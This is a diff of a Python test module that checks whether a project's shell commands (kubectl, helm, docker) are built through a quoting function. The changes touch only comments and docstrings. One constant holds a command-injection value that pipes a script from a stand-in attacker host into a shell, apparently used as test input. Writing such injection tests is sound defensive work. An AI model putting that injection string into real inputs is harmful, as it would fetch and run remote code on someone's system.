@@ -14,7 +14,7 @@ from cardwise.core.values.shellcommand import command
 ROOT: Final = Path(__file__).parents[3]
 PACKAGES: Final = ("cardwise", "webhook", "extender", "deviceplugin", "mps")
 EVIL: Final = "x; curl http://evil.example | sh #"
-VALUE: Final = "\0"  # in the place of what is put into a text
+VALUE: Final = "\0"  # stands for a value in a text
 # A program with its words, up to the end of a sentence or of a quotation, and a value in it.
 WITH_VALUE: Final = re.compile(rf"\b(kubectl|helm|cardwise|docker|nvidia-smi) [-a-z][^`;()\n{VALUE}]*{VALUE}")
 UNFINISHED: Final = re.compile(r"\b(kubectl|helm|cardwise) [a-z][^`;()\n]* $")
@@ -37,7 +37,7 @@ def test_any_other_text_is_quoted():
 
 
 def texts(tree: ast.AST) -> Iterator[tuple[int, str]]:
-    """The texts of a module with a mark for each value in them, but docstrings and templates of commands."""
+    """The texts of a module, with a mark in place of each value, without docstrings and templates of commands."""
     left_out: set[int] = set()
     for node in ast.walk(tree):
         if isinstance(node, ast.Expr) and isinstance(node.value, ast.Constant):
@@ -57,11 +57,11 @@ def texts(tree: ast.AST) -> Iterator[tuple[int, str]]:
 
 
 def faults(source: str) -> list[tuple[int, str]]:
-    """Commands that were put together without the function."""
+    """Find commands that are formatted without the function."""
     return [(at, text) for at, text in texts(ast.parse(source)) if WITH_VALUE.search(text) or UNFINISHED.search(text)]
 
 
-# Words of the program itself, and no command: a title, a path that is a constant.
+# Texts that start with a program's name but are not commands: a title, a constant path.
 ALLOWED: Final = {
     "cardwise/cli/doctor/before.py": {"scheduler.mode=kubeadm changes its manifest"},  # "for helm template"
     "cardwise/cli/commands/top.py": {"cardwise top, "},
